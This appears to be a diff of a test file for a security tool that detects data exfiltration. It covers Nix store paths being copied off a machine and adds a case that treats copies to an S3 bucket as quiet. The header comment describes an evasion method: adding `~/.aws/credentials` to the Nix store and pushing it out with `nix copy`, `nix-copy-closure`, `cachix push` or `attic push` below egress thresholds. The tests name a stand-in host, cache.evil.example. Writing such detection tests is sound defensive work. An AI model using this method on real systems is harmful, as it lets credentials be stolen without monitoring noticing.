@@ -1,7 +1,7 @@
 /**
  * Nix store paths copied off the machine (evasion hunt, round 3): a derivation's output is any file, so `nix copy
- * --to ssh-ng://HOST PATH`, `nix-copy-closure --to HOST PATH`, `cachix push CACHE PATH` and `attic push CACHE PATH`
- * send whatever was put in the store (`nix store add-file ~/.aws/credentials`), a few KiB far under the egress
+ * --to ssh-ng://HOST PATH` (not to an S3 bucket: object storage, as `aws s3 cp`), `nix-copy-closure --to HOST
+ * PATH`, `cachix push CACHE PATH` and `attic push CACHE PATH` send whatever was put in the store (`nix store add-file ~/.aws/credentials`), a few KiB far under the egress
  * threshold: nothing was raised. Checked as exported Tetragon and Falco JSON lines through the real scan path;
  * kept out of the scenario library (the bench's workload).
  */
@@ -74,10 +74,12 @@ describe('nix store paths copied off the machine', () => {
       ).toEqual([high('nix', '198.51.100.11:443')]);
     });
 
-    it(`copies into a local store, from a cache, and cachix's reads are quiet (${form})`, async () => {
+    it(`copies into a local store or a bucket, from a cache, and cachix's reads are quiet (${form})`, async () => {
       const to = 'cache.evil.example:443';
       for (const [name, binary, args] of [
         ['nix-copy-local', NIX, `copy --to file:///tmp/cache ${STORE_PATH}`],
+        // Object storage, as `aws s3 cp` of the file itself (review of f5bfd49: it was high).
+        ['nix-copy-s3', NIX, `copy --to s3://acme-nix-cache?region=eu-west-1 ${STORE_PATH}`],
         ['nix-copy-root', NIX, `copy --to /mnt/root ${STORE_PATH}`],
         ['nix-copy-from', NIX, `copy --from https://cache.nixos.org ${STORE_PATH}`],
         ['nix-build', NIX, 'build .#default'],
